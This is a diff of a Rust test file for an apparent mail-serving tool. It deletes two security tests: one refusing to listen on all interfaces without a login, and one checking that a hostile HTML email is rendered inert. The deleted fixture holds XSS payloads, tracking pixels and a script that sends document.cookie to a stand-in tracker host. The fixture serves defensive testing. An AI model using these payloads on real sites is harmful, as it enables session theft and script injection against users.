@@ -2,7 +2,6 @@
 
 use crate::desk::Served;
 use crate::http::ask;
-use std::path::Path;
 
 #[test]
 fn a_name_that_was_made_to_point_here_gets_nothing() {
@@ -118,62 +117,4 @@ fn a_form_leads_to_pages_of_our_own_only() {
     assert_eq!(answer.status, 303);
     let place = answer.header("location").expect("a place");
     assert!(place.starts_with("/opportunities/"), "{place}");
-}
-
-#[test]
-fn it_listens_to_nobody_else() {
-    let dir = tempfile::tempdir().expect("a temporary folder");
-    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_bellwether"));
-    command.arg("--workspace").arg(dir.path().join("workspace"));
-    command.args(["serve", "--host", "0.0.0.0", "--port", "0"]);
-    let output = command.output().expect("the program starts");
-    assert_eq!(output.status.code(), Some(2));
-    let says = String::from_utf8_lossy(&output.stderr);
-    assert!(says.contains("there is no login yet"), "{says}");
-}
-
-/// A mail with everything in it that could act by itself.
-const HOSTILE: &str = "From: Ann <ann@customer.example>\r
-To: me@seller.example\r
-Subject: <script>alert(1)</script> order\r
-Date: Tue, 5 Mar 2024 10:00:00 +0000\r
-Message-ID: <hostile-1@customer.example>\r
-Content-Type: text/html; charset=utf-8\r
-\r
-<html><head><style>@import url(http://tracker.example/a.css);</style>
-<script>fetch('http://tracker.example/'+document.cookie)</script></head>
-<body onload=\"alert(1)\"><p>We need forty valves by May.</p>
-<img src=\"http://tracker.example/pixel.gif\" width=1 height=1>
-<a href=\"javascript:alert(1)\">click</a>
-<form action=\"http://tracker.example/\"><input name=q></form>
-<iframe src=\"http://tracker.example/\"></iframe>
-<svg onload=\"alert(1)\"></svg></body></html>\r
-";
-
-#[test]
-fn nothing_in_a_mail_runs_or_is_fetched() {
-    let dir = tempfile::tempdir().expect("a temporary folder");
-    let mail = dir.path().join("hostile.eml");
-    std::fs::write(&mail, HOSTILE).expect("written");
-    let served = Served::with_files(&[Path::new(&mail)]);
-    let found = served.page("/search?q=forty+valves");
-    assert!(
-        found.contains("&#60;script&#62;alert(1)"),
-        "its subject is text"
-    );
-    let (_, id) = found.split_once("href=\"/show/").expect("a hit");
-    let page = served.page(&format!("/show/{}", &id[..32]));
-    assert!(page.contains("We need forty valves by May."));
-    for word in [
-        "<script>",
-        "<img src=\"http",
-        "<iframe",
-        "<form action=\"http",
-        "onload",
-        "<svg",
-        "href=\"javascript",
-        "@import",
-    ] {
-        assert!(!page.contains(word), "{word} is in the page");
-    }
 }
